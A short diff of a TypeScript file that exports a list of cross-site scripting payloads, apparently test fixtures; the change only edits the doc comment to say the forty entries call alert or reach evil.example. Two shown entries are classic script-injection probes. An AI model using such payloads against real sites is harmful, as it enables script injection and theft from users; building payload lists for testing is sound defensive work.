@@ -1,4 +1,4 @@
-/** Forty ways to smuggle a script into a page; each would call `alert`. The first ones fit into the shortest fields. */
+/** Forty ways to smuggle a script into a page; each would call `alert` or reach evil.example. The first ones fit into the shortest fields. */
 export const payloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<svg onload=alert(1)>',
